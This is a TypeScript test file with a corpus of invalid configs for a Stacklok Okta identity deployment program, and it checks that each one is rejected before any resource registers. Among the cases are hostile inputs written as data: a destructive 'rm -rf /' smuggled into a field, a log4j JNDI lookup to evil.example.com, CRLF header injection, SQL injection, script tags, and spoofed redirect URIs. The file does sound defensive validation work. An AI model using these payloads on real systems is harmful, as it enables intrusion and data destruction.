/**
 * A corpus of invalid stack configs, each run
 * through the whole program on the mock engine. Every one must stop the
 * program with a ConfigError naming the key, before any resource registers
 * and before any Okta lookup. config.test.ts covers the parser's messages in
 * detail; this table is about breadth: hostile and sloppy input of every kind.
 */
import { describe, expect, it } from "vitest";
import { baseConfig, runProgram } from "./support/program";

interface InvalidCase {
  /** What is wrong, as a test title. */
  what: string;
  /** Replaces or adds keys of the base config; `undefined` removes one. */
  config: Record<string, unknown>;
  /** The key path the message must name (after `stacklok-identity:`). */
  path: string;
  stack?: string;
}

const CYRILLIC_A = "\u0430";
const ZERO_WIDTH_SPACE = "\u200b";

const corpus: InvalidCase[] = [
  // Wrong types (Pulumi passes every value as a string; these are what a typo makes of it)
  { what: "mode given as a number", config: { mode: 42 }, path: "mode" },
  { what: "protect given as 1", config: { protect: 1 }, path: "protect" },
  { what: "createAccessGroup given as no", config: { createAccessGroup: "no" }, path: "createAccessGroup" },
  { what: "a fractional access-token lifetime", config: { accessTokenLifetimeMinutes: 60.5 }, path: "accessTokenLifetimeMinutes" },
  { what: "a hexadecimal lifetime", config: { accessTokenLifetimeMinutes: "0x3c" }, path: "accessTokenLifetimeMinutes" },
  { what: "a refresh window given as a boolean", config: { refreshTokenWindowMinutes: true }, path: "refreshTokenWindowMinutes" },
  { what: "audiences given as a plain string", config: { audiences: "enterprise-manager" }, path: "audiences" },
  { what: "an audience given as a number", config: { audiences: { cloudUi: 42 } }, path: "audiences.cloudUi" },
  { what: "cliRedirectUris given as one string, not a list", config: { cliRedirectUris: "http://localhost:8666/callback" }, path: "cliRedirectUris" },
  { what: "accessGroupIds given as an object", config: { accessGroupIds: { id: "00g1a2b3c4d5e6f7g8h9" } }, path: "accessGroupIds" },
  { what: "claims given as a list", config: { claims: ["groups", "roles"] }, path: "claims" },
  { what: "a claim's enabled given as off", config: { claims: { roles: { enabled: "off" } } }, path: "claims.roles.enabled" },

  // Missing and unknown modes and enums
  { what: "mode missing", config: { mode: undefined }, path: "mode" },
  { what: "an unknown mode", config: { mode: "multi" }, path: "mode" },
  { what: "a mode in the wrong case", config: { mode: "Single" }, path: "mode" },
  { what: "a mode with a trailing space", config: { mode: "per-component " }, path: "mode" },
  { what: "accessPolicyClients spelled as Okta's ALL", config: { accessPolicyClients: "ALL" }, path: "accessPolicyClients" },
  { what: "issuerMode in lower case", config: { issuerMode: "org_url" }, path: "issuerMode" },
  { what: "a token endpoint auth method the web app cannot use", config: { cloudUiTokenEndpointAuthMethod: "private_key_jwt" }, path: "cloudUiTokenEndpointAuthMethod" },

  // URLs: schemes, injection and disguises
  { what: "a javascript: Cloud UI URL", config: { cloudUiUrl: "javascript:alert(document.cookie)" }, path: "cloudUiUrl" },
  { what: "a file: Cloud UI URL", config: { cloudUiUrl: "file:///etc/passwd" }, path: "cloudUiUrl" },
  { what: "a data: registry URL", config: { registryUrl: "data:text/html;base64,PHNjcmlwdD4=" }, path: "registryUrl" },
  { what: "a fragment in the Enterprise Manager URL", config: { enterpriseManagerUrl: "https://manager.example.com/#/admin" }, path: "enterpriseManagerUrl" },
  { what: "a wildcard host in the registry URL", config: { registryUrl: "https://*.example.com" }, path: "registryUrl" },
  { what: "CRLF header injection in the Cloud UI URL", config: { cloudUiUrl: "https://stacklok.example.com/\r\nSet-Cookie: session=x" }, path: "cloudUiUrl" },
  { what: "a leading space in the Cloud UI URL", config: { cloudUiUrl: " https://stacklok.example.com" }, path: "cloudUiUrl" },
  { what: "a tab inside the Cloud UI host", config: { cloudUiUrl: "https://stack\tlok.example.com" }, path: "cloudUiUrl" },
  { what: "a Cyrillic homoglyph in the Cloud UI host", config: { cloudUiUrl: `https://stacklok.ex${CYRILLIC_A}mple.com` }, path: "cloudUiUrl" },
  { what: "https: without //", config: { cloudUiUrl: "https:stacklok.example.com" }, path: "cloudUiUrl" },
  { what: "an empty query on the Cloud UI URL", config: { cloudUiUrl: "https://stacklok.example.com/?" }, path: "cloudUiUrl" },
  { what: "a numeric host for the Cloud UI", config: { cloudUiUrl: "https://2130706433" }, path: "cloudUiUrl" },
  { what: "a Helm template in the registry URL", config: { registryUrl: "https://registry.example.com/{{.Values.secret}}" }, path: "registryUrl" },
  { what: "a script tag in the Enterprise Manager URL", config: { enterpriseManagerUrl: "https://manager.example.com/<script>alert(1)</script>" }, path: "enterpriseManagerUrl" },
  { what: "a host label longer than DNS allows", config: { cloudUiUrl: `https://${"a".repeat(300)}.example.com` }, path: "cloudUiUrl" },

  // CLI redirect URIs: only the loopback callback, exactly as the CLI sends it
  { what: "an empty list of CLI redirect URIs", config: { cliRedirectUris: [] }, path: "cliRedirectUris" },
  { what: "localhost.evil.com disguised as loopback", config: { cliRedirectUris: ["http://localhost.evil.com/callback"] }, path: "cliRedirectUris[0]" },
  { what: "127.0.0.1 as credentials in front of evil.com", config: { cliRedirectUris: ["http://127.0.0.1@evil.com:8666/callback"] }, path: "cliRedirectUris[0]" },
  { what: "credentials in front of localhost", config: { cliRedirectUris: ["http://evil.com@localhost:8666/callback"] }, path: "cliRedirectUris[0]" },
  { what: "127.0.0.1 written as a decimal number", config: { cliRedirectUris: ["http://2130706433:8666/callback"] }, path: "cliRedirectUris[0]" },
  { what: "a CRLF after a second redirect URI", config: { cliRedirectUris: ["http://localhost:8666/callback", "http://127.0.0.1:8666/callback\r\n"] }, path: "cliRedirectUris[1]" },
  { what: "a Cyrillic o in localhost", config: { cliRedirectUris: ["http://l\u043ecalhost:8666/callback"] }, path: "cliRedirectUris[0]" },
  { what: "a file: redirect URI", config: { cliRedirectUris: ["file:///tmp/callback"] }, path: "cliRedirectUris[0]" },

  // Audiences
  { what: "audiences equal but for case (per-component)", config: { mode: "per-component", audiences: { enterpriseManager: "api://stacklok", cloudUi: "API://STACKLOK" } }, path: "audiences" },
  { what: "a Cloud UI audience equal to the default Enterprise Manager one (per-component)", config: { mode: "per-component", audiences: { cloudUi: "enterprise-manager" } }, path: "audiences" },
  // One server carries one audience (Okta refuses a second).
  { what: "a second audience in single mode", config: { audiences: { cloudUi: "cloud-ui" } }, path: "audiences.cloudUi" },
  { what: "a second audience on a custom single server", config: { authorizationServer: "stacklok-dev", audiences: { enterpriseManager: "em", cloudUi: "ui" } }, path: "audiences.cloudUi" },
  { what: "extraAudiences beside Stacklok's", config: { extraAudiences: ["api://default"] }, path: "extraAudiences" },
  { what: "extraAudiences in per-component mode", config: { mode: "per-component", extraAudiences: ["api://other"] }, path: "extraAudiences" },
  { what: "an empty audience", config: { audiences: { cloudUi: "" } }, path: "audiences.cloudUi" },
  { what: "a log4j lookup as an audience", config: { audiences: { enterpriseManager: "${jndi:ldap://evil.example.com/a}" } }, path: "audiences.enterpriseManager" },
  { what: "a NUL byte in an audience", config: { audiences: { cloudUi: "cloud-ui\u0000" } }, path: "audiences.cloudUi" },
  { what: "a zero-width space in an audience", config: { audiences: { cloudUi: `cloud${ZERO_WIDTH_SPACE}ui` } }, path: "audiences.cloudUi" },
  { what: "a 1025-character audience", config: { audiences: { cloudUi: "a".repeat(1025) } }, path: "audiences.cloudUi" },

  // Unknown keys, top level and nested
  { what: "an unknown top-level key", config: { oktaOrgName: "acme" }, path: "oktaOrgName" },
  { what: "an unknown audience", config: { audiences: { registryServer: "registry" } }, path: "audiences.registryServer" },
  { what: "an unknown claim setting", config: { claims: { groups: { filter: "STARTS_WITH" } } }, path: "claims.groups.filter" },
  { what: "__proto__ smuggled in as a claim", config: { claims: '{"__proto__":{"name":"sub"}}' }, path: "claims.__proto__" },

  // Injection-looking names and ids
  { what: "a shell command as the environment", config: { environment: '"; rm -rf /' }, path: "environment" },
  { what: "a Helm template as the environment", config: { environment: "{{ .Release.Name }}" }, path: "environment" },
  { what: "a 33-character environment", config: { environment: "e".repeat(33) }, path: "environment" },
  { what: "a stack name with no usable character and no environment", config: {}, stack: "___", path: "environment" },
  { what: "SQL in a group id", config: { accessGroupIds: ["00g' OR '1'='1"] }, path: "accessGroupIds[0]" },
  { what: "a group name where an id belongs", config: { accessGroupIds: ["00g1a2b3c4d5e6f7g8h9", "Everyone"] }, path: "accessGroupIds[1]" },
  { what: "a group id one character short", config: { accessGroupIds: ["00g1a2b3c4d5e6f7g8h"] }, path: "accessGroupIds[0]" },
  { what: "a script tag as a claim name", config: { claims: { email: { name: "<script>" } } }, path: "claims.email.name" },
  { what: "a CRLF in the server name", config: { authorizationServer: "stacklok\r\nX-Injected: 1" }, path: "authorizationServer" },
  { what: "a 101-character server name", config: { authorizationServer: "s".repeat(101) }, path: "authorizationServer" },
  { what: "Default, which would create a custom server instead of adopting default", config: { authorizationServer: "Default" }, path: "authorizationServer" },
  { what: "default with a trailing space", config: { authorizationServer: "default " }, path: "authorizationServer" },
  { what: "an invisible server name", config: { authorizationServer: ZERO_WIDTH_SPACE }, path: "authorizationServer" },

  // Access and claims
  { what: "no group assigned and nobody allowed", config: { createAccessGroup: false, accessGroupIds: [], allowEveryone: false }, path: "createAccessGroup" },
  { what: "a reserved claim name", config: { claims: { roles: { name: "scp" } } }, path: "claims.roles.name" },
  { what: "two claims with one name", config: { claims: { groups: { name: "stacklok" }, roles: { name: "stacklok" } } }, path: "claims.roles.name" },
  { what: "a blank claim expression", config: { claims: { email: { expression: "   " } } }, path: "claims.email.expression" },
  { what: "an unbalanced groups regex", config: { claims: { groups: { groupsRegex: "[a-z" } } }, path: "claims.groups.groupsRegex" },

  // Admins and registry roles: the registry must never grant every user every role
  { what: "createAdminGroup given as no", config: { createAdminGroup: "no" }, path: "createAdminGroup" },
  { what: "a group name in adminGroupIds", config: { adminGroupIds: ["stacklok-dev-admins"] }, path: "adminGroupIds[0]" },
  { what: "no created admin group and no registry roles", config: { createAdminGroup: false, adminGroupIds: ["00g1a2b3c4d5e6f7g8h9"] }, path: "registryRoles" },
  { what: "the groups claim disabled and no registry roles", config: { claims: { groups: { enabled: false } } }, path: "registryRoles" },
  { what: "a groups regex that drops the admin group, and no registry roles", config: { claims: { groups: { groupsRegex: "team-.*" } } }, path: "registryRoles" },
  { what: "an empty superAdmin list", config: { registryRoles: { superAdmin: [], manageSources: [], manageRegistries: [], manageEntries: [] } }, path: "registryRoles.superAdmin" },
  { what: "an empty matcher, which never matches", config: { registryRoles: { superAdmin: [{}], manageSources: [], manageRegistries: [], manageEntries: [] } }, path: "registryRoles.superAdmin[0]" },
  { what: "a registry role left out", config: { registryRoles: { superAdmin: [{ groups: "stacklok-dev-admins" }], manageSources: [], manageRegistries: [] } }, path: "registryRoles.manageEntries" },
  { what: "an unknown registry role", config: { registryRoles: { superAdmin: [{ groups: "stacklok-dev-admins" }], manageSources: [], manageRegistries: [], manageEntries: [], admin: [] } }, path: "registryRoles.admin" },
  { what: "a matcher on a claim tokens do not carry", config: { registryRoles: { superAdmin: [{ department: "it" }], manageSources: [], manageRegistries: [], manageEntries: [] } }, path: "registryRoles.superAdmin[0].department" },
  { what: "a matcher on a disabled claim", config: { claims: { roles: { enabled: false } }, registryRoles: { superAdmin: [{ groups: "stacklok-dev-admins" }], manageSources: [], manageRegistries: [], manageEntries: [{ roles: "editor" }] } }, path: "registryRoles.manageEntries[0].roles" },
  { what: "a groups matcher the claim's regex drops", config: { claims: { groups: { groupsRegex: "stacklok-.*" } }, registryRoles: { superAdmin: [{ groups: ["stacklok-dev-admins", "admins"] }], manageSources: [], manageRegistries: [], manageEntries: [] } }, path: "registryRoles.superAdmin[0].groups" },
  { what: "a matcher value that is a number", config: { registryRoles: { superAdmin: [{ groups: 1 }], manageSources: [], manageRegistries: [], manageEntries: [] } }, path: "registryRoles.superAdmin[0].groups" },

  // MCP servers: one audience each, per-component mode only
  { what: "MCP servers in single mode", config: { mcpServers: [{ name: "github", resourceUrl: "https://mcp.example.com/github" }] }, path: "mcpServers" },
  { what: "an MCP server name with a capital", config: { mode: "per-component", mcpServers: [{ name: "GitHub", resourceUrl: "https://mcp.example.com/github" }] }, path: "mcpServers[0].name" },
  { what: "a 33-character MCP server name", config: { mode: "per-component", mcpServers: [{ name: "m".repeat(33), resourceUrl: "https://mcp.example.com/m" }] }, path: "mcpServers[0].name" },
  { what: "two MCP servers with one name", config: { mode: "per-component", mcpServers: [{ name: "github", resourceUrl: "https://mcp.example.com/a" }, { name: "github", resourceUrl: "https://mcp.example.com/b" }] }, path: "mcpServers[1].name" },
  { what: "an http MCP resource URL", config: { mode: "per-component", mcpServers: [{ name: "github", resourceUrl: "http://mcp.example.com/github" }] }, path: "mcpServers[0].resourceUrl" },
  { what: "an MCP audience equal to the Enterprise Manager's", config: { mode: "per-component", mcpServers: [{ name: "github", resourceUrl: "https://mcp.example.com/github", audience: "enterprise-manager" }] }, path: "mcpServers[0].audience" },
  { what: "two MCP servers with one resource URL as audience", config: { mode: "per-component", mcpServers: [{ name: "a", resourceUrl: "https://mcp.example.com/x" }, { name: "b", resourceUrl: "https://mcp.example.com/x/" }] }, path: "mcpServers[1].resourceUrl" },
  { what: "an unknown MCP server key", config: { mode: "per-component", mcpServers: [{ name: "github", url: "https://mcp.example.com/github" }] }, path: "mcpServers[0].url" },

  // Token lifetimes outside Okta's limits or its relation
  { what: "a zero access-token lifetime", config: { accessTokenLifetimeMinutes: 0 }, path: "accessTokenLifetimeMinutes" },
  { what: "a 2000-minute access token", config: { accessTokenLifetimeMinutes: 2000 }, path: "accessTokenLifetimeMinutes" },
  { what: "a negative refresh lifetime", config: { refreshTokenLifetimeMinutes: -1 }, path: "refreshTokenLifetimeMinutes" },
  { what: "a refresh window under Okta's 10 minutes", config: { refreshTokenWindowMinutes: 5 }, path: "refreshTokenWindowMinutes" },
  { what: "a refresh window over five years", config: { refreshTokenWindowMinutes: 2_628_001 }, path: "refreshTokenWindowMinutes" },
  { what: "a refresh lifetime shorter than the access one", config: { accessTokenLifetimeMinutes: 120, refreshTokenLifetimeMinutes: 90 }, path: "refreshTokenLifetimeMinutes" },
  { what: "a refresh window beyond the refresh lifetime", config: { refreshTokenLifetimeMinutes: 120, refreshTokenWindowMinutes: 200 }, path: "refreshTokenWindowMinutes" },
  { what: "a refresh window shorter than the access token", config: { accessTokenLifetimeMinutes: 600, refreshTokenLifetimeMinutes: 1440, refreshTokenWindowMinutes: 300 }, path: "refreshTokenWindowMinutes" },
];

function configOf(c: InvalidCase): Record<string, unknown> {
  const merged: Record<string, unknown> = { ...baseConfig, ...c.config };
  for (const [key, value] of Object.entries(merged)) if (value === undefined) delete merged[key];
  return merged;
}

describe("the invalid-config corpus", () => {
  it("is at least 30 cases, each naming a distinct failure", () => {
    expect(corpus.length).toBeGreaterThanOrEqual(30);
    expect(new Set(corpus.map((c) => c.what)).size).toBe(corpus.length);
  });

  it.each(corpus.map((c) => [c.what, c] as const))("rejects %s before anything registers", async (_, c) => {
    const result = await runProgram({ config: configOf(c), ...(c.stack === undefined ? {} : { stack: c.stack }) });
    expect(result.error?.name).toBe("ConfigError");
    // One line per problem, each starting with the full key path.
    expect(result.error?.message).toContain(`\n  - stacklok-identity:${c.path}: `);
    expect(result.resources.filter((r) => r.type.startsWith("okta:") || r.type.startsWith("stacklok:"))).toEqual([]);
    expect(result.invocations).toEqual([]);
  });
});

describe("the corpus check itself", () => {
  it("would notice a valid config slipping through: the base config runs and registers resources", async () => {
    const result = await runProgram({ config: { ...baseConfig } });
    expect(result.error).toBeUndefined();
    expect(result.resources.some((r) => r.type.startsWith("okta:"))).toBe(true);
    expect(result.invocations.length).toBeGreaterThan(0);
  });
});
